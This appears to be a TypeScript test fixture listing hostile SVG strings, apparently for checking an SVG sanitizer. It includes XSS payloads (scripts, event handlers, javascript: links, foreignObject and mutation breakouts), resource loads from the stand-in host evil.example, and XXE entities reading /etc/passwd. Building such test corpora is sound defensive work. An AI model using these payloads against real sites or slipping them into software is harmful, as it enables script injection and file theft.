/** Calls home and runs: the page that shows it counts both. */
const run = 'alert(1)'
const out = 'https://evil.example'
const head = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const shape = '<rect width="40" height="40"/>'
const svg = (inner: string, attrs = 'viewBox="0 0 100 100"') => `<svg ${head} ${attrs}>${inner}${shape}</svg>`
const packed = Buffer.from(svg(`<script>${run}</script>`)).toString('base64')
const page = encodeURIComponent(`<script>${run}</script>`)

const events = ['onload', 'onclick', 'onmouseover', 'onfocus', 'onfocusin', 'onpointerenter', 'onbegin', 'onerror']
  .concat(['onanimationstart', 'onwheel', 'ontoggle', 'onactivate', 'ONCLICK'])
  .map((name): [string, string] => [`event ${name}`, svg(`<rect width="9" height="9" tabindex="1" ${name}="${run}"/>`)])

const scripts: [string, string][] = [
  ['script', svg(`<script>${run}</script>`)],
  ['script with a type', svg(`<script type="text/ecmascript">${run}</script>`)],
  ['script as raw text', svg(`<script><![CDATA[${run}]]></script>`)],
  ['script from outside', svg(`<script href="${out}/a.js"/>`)],
  ['script from outside, the old way', svg(`<script xlink:href="${out}/a.js"/>`)],
  ['script from data', svg(`<script href="data:text/javascript,${run}"/>`)],
  [
    'script in a prefix',
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>${run}</s:script></s:svg>`,
  ],
  ['script of HTML', svg(`<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`)],
  ['script of HTML under a prefix', svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`)],
  ['script behind a comment', svg(`<!-- --!><script>${run}</script> -->`)],
  ['script that ends a title', svg(`<title><script>${run}</script></title>`)],
  ['script in a description', svg(`<desc><![CDATA[</desc><script>${run}</script>]]></desc>`)],
  ['script in a style', svg(`<style><![CDATA[</style><script>${run}</script>]]></style>`)],
  ['script in a text by numbers', svg(`<text>&#60;script&#62;${run}&#60;/script&#62;</text>`)],
  ['script by an entity', `<!DOCTYPE svg [<!ENTITY e "<script>${run}</script>">]>${svg('&e;')}`],
  ['load of the whole', svg('', `viewBox="0 0 9 9" onload="${run}"`)],
  ['handler', svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`)],
  ['an attribute that breaks out', svg(`<text x="1&quot; onclick=&quot;${run}">a</text>`)],
  ['a class that breaks out', svg(`<g class="wd-a&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;">${shape}</g>`)],
  ['an id that is a global', svg('<g id="documentElement"><g id="alert"/></g>')],
]

const links: [string, string][] = [
  ['a link that runs', svg(`<a href="javascript:${run}">${shape}</a>`)],
  ['a link that runs, the old way', svg(`<a xlink:href="javascript:${run}">${shape}</a>`)],
  ['a link with white space', svg(`<a href=" java&#10;script:${run}">${shape}</a>`)],
  ['a link by data', svg(`<a href="data:text/html,${page}">${shape}</a>`)],
  [
    'an animated link',
    svg(`<a id="l">${shape}<animate attributeName="href" values="javascript:${run}" begin="0s"/></a>`),
  ],
  ['a set link', svg(`<a>${shape}<set attributeName="href" to="javascript:${run}"/></a>`)],
  ['a use of another file', svg(`<use href="${out}/a.svg#x"/>`)],
  ['a use of another file, the old way', svg(`<use xlink:href="${out}/a.svg#x"/>`)],
  ['a use of data', svg(`<use href="data:image/svg+xml;base64,${packed}#x"/>`)],
  ['a use without a scheme', svg(`<use href="//evil.example/a.svg#x"/>`)],
  ['a picture', svg(`<image href="${out}/a.png" width="9" height="9"/>`)],
  ['a picture that fails', svg(`<image href="x:y" onerror="${run}" width="9" height="9"/>`)],
  ['a picture that is a drawing', svg(`<image href="data:image/svg+xml;base64,${packed}" width="9" height="9"/>`)],
  [
    'a picture of a filter',
    svg(`<filter id="f"><feImage href="${out}/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
  ],
  ['a base', svg(`<g xml:base="${out}/"><use href="a.svg#x"/></g>`)],
  ['a set of an event', svg(`<rect width="9" height="9"><set attributeName="onclick" to="${run}"/></rect>`)],
]

const styles: [string, string][] = [
  ['an import', svg(`<style>@import url(${out}/a.css);</style>`)],
  ['an import as text', svg(`<style>@import "${out}/a.css";</style>`)],
  ['a font', svg(`<style>@font-face{font-family:x;src:url(${out}/a.woff)}text{font-family:x}</style><text>a</text>`)],
  ['a background', svg(`<style>*{background:url(${out}/a.png)}</style>`)],
  ['a style attribute', svg(`<rect width="9" height="9" style="fill:url(${out}/a.svg#x)"/>`)],
  [
    'a style attribute of an image set',
    svg(`<rect width="9" height="9" style="background-image:image-set('${out}/a.png' 1x)"/>`),
  ],
  ['a fill', svg(`<rect width="9" height="9" fill="url(${out}/a.svg#x)"/>`)],
  ['a fill with quotes', svg(`<rect width="9" height="9" fill="url(&quot;${out}/a.svg#x&quot;)"/>`)],
  ['a mask', svg(`<rect width="9" height="9" mask="url(${out}/a.svg#x)"/>`)],
  ['a clip path', svg(`<rect width="9" height="9" clip-path="url(${out}/a.svg#x)"/>`)],
  ['a filter', svg(`<rect width="9" height="9" filter="url(${out}/a.svg#x)"/>`)],
  ['a marker', svg(`<path d="M0 0L9 9" marker-start="url(${out}/a.svg#x)"/>`)],
  ['a cursor', svg(`<rect width="9" height="9" cursor="url(${out}/a.cur),auto"/>`)],
  ['a style sheet by instruction', `<?xml-stylesheet href="${out}/a.css"?>${svg('')}`],
  ['a transformation by instruction', `<?xml-stylesheet type="text/xsl" href="${out}/a.xsl"?>${svg('')}`],
  ['a link to a style sheet', svg(`<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${out}/a.css"/>`)],
]

const islands: [string, string][] = [
  [
    'HTML inside',
    svg(
      `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x:y" onerror="${run}"/></foreignObject>`,
    ),
  ],
  [
    'a frame inside',
    svg(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${run}"/></foreignObject>`,
    ),
  ],
  [
    'a frame with its text',
    svg(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"/></foreignObject>`,
    ),
  ],
  [
    'an object',
    svg(`<foreignObject><object xmlns="http://www.w3.org/1999/xhtml" data="data:text/html,${page}"/></foreignObject>`),
  ],
  ['an embed', svg(`<embed xmlns="http://www.w3.org/1999/xhtml" src="${out}/a.swf"/>`)],
  ['a video', svg(`<video xmlns="http://www.w3.org/1999/xhtml" src="${out}/a.mp4" onerror="${run}"/>`)],
  [
    'a form',
    svg(`<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="${out}/a"><button/></form></foreignObject>`),
  ],
  ['a refresh', svg(`<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${out}/a"/>`)],
  ['mutated HTML', svg(`<style><a title="</style><img src=x:y onerror=${run}>"/></style>`)],
  [
    'mutated MathML',
    svg(
      `<desc><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img src="x:y" onerror="${run}"/></mtext></math></desc>`,
    ),
  ],
  ['an open template', svg(`<template xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></template>`)],
  ['raw text that closes the drawing', svg(`<text><![CDATA[</text></svg><script>${run}</script>]]></text>`)],
]

const files: [string, string][] = [
  ['an outer entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`],
  ['an outer document type', `<!DOCTYPE svg SYSTEM "${out}/a.dtd">${svg('')}`],
  [
    'an entity that grows',
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  ],
  ['an inclusion', svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${out}/a.xml"/>`)],
]

export const hostileSvgs: readonly [name: string, text: string][] = [
  ...scripts,
  ...events,
  ...links,
  ...styles,
  ...islands,
  ...files,
]
